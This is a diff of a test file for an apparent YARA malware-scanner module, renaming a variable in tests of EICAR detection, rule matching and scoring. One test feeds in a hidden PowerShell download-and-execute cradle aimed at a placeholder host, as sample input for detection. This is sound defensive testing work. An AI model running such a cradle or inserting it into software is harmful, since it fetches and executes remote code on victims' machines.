@@ -19,34 +19,34 @@ def analyze(tmp_path: Path):
     def run(data: bytes) -> Analysis:
         path = tmp_path / "sample"
         path.write_bytes(data)
-        made = yara(Sample(path=path, sha256="0" * 64, size=len(data)))
-        jsonschema.validate(made.result, yara.schema)
-        return made
+        analysis = yara(Sample(path=path, sha256="0" * 64, size=len(data)))
+        jsonschema.validate(analysis.result, yara.schema)
+        return analysis
 
     return run
 
 
-def rules(made: Analysis) -> set[str]:
-    return {match["rule"] for match in made.result["matches"]}
+def rules(analysis: Analysis) -> set[str]:
+    return {match["rule"] for match in analysis.result["matches"]}
 
 
 @pytest.mark.parametrize("tail", [b"", b"\r\n", b" " * 60])
 def test_the_test_file_is_malicious_with_white_space_behind_it(analyze, tail: bytes):
-    made = analyze(EICAR + tail)
+    analysis = analyze(EICAR + tail)
 
-    assert made.score == 100
-    assert [(item.name, item.assessment) for item in made.detections] == [
+    assert analysis.score == 100
+    assert [(item.name, item.assessment) for item in analysis.detections] == [
         ("EICAR_Test_File", "malicious")
     ]
-    assert Tag(type="yara", value="EICAR_Test_File") in made.tags
-    assert Tag(type="family", value="EICAR-Test-File") in made.tags
+    assert Tag(type="yara", value="EICAR_Test_File") in analysis.tags
+    assert Tag(type="family", value="EICAR-Test-File") in analysis.tags
 
 
 def test_the_test_string_inside_other_content_is_no_test_file(analyze):
-    made = analyze(b"Our scanner is tested with " + EICAR)
+    analysis = analyze(b"Our scanner is tested with " + EICAR)
 
-    assert rules(made) == {"EICAR_String_Inside"}
-    assert made.score < 70
+    assert rules(analysis) == {"EICAR_String_Inside"}
+    assert analysis.score < 70
 
 
 @pytest.mark.parametrize(
@@ -88,10 +88,10 @@ def test_the_test_string_inside_other_content_is_no_test_file(analyze):
     ],
 )
 def test_each_rule_finds_what_it_is_for(analyze, rule: str, data: bytes):
-    made = analyze(data)
+    analysis = analyze(data)
 
-    assert rule in rules(made)
-    assert made.score > 0
+    assert rule in rules(analysis)
+    assert analysis.score > 0
 
 
 @pytest.mark.parametrize(
@@ -106,25 +106,25 @@ def test_each_rule_finds_what_it_is_for(analyze, rule: str, data: bytes):
     ],
 )
 def test_honest_content_matches_nothing(analyze, data: bytes):
-    made = analyze(data)
+    analysis = analyze(data)
 
-    assert made.score == -1
-    assert made.result["matches"] == []
+    assert analysis.score == -1
+    assert analysis.result["matches"] == []
 
 
 def test_the_score_is_that_of_the_strongest_rule(analyze):
     cradle = b"powershell -w hidden IEX (x.DownloadString('http://e.example/'))"
 
-    made = analyze(cradle)
+    analysis = analyze(cradle)
 
-    assert len(rules(made)) == 2
-    assert made.score == max(match["score"] for match in made.result["matches"])
+    assert len(rules(analysis)) == 2
+    assert analysis.score == max(match["score"] for match in analysis.result["matches"])
 
 
 def test_matches_say_where_and_are_bounded(analyze):
-    made = analyze(b"{\\rtf1 " + b"\\objdata " * 1000)
+    analysis = analyze(b"{\\rtf1 " + b"\\objdata " * 1000)
 
-    (match,) = made.result["matches"]
+    (match,) = analysis.result["matches"]
     assert match["patterns"][0]["offsets"][0] == 7
     assert len(match["patterns"][0]["offsets"]) <= 16
 
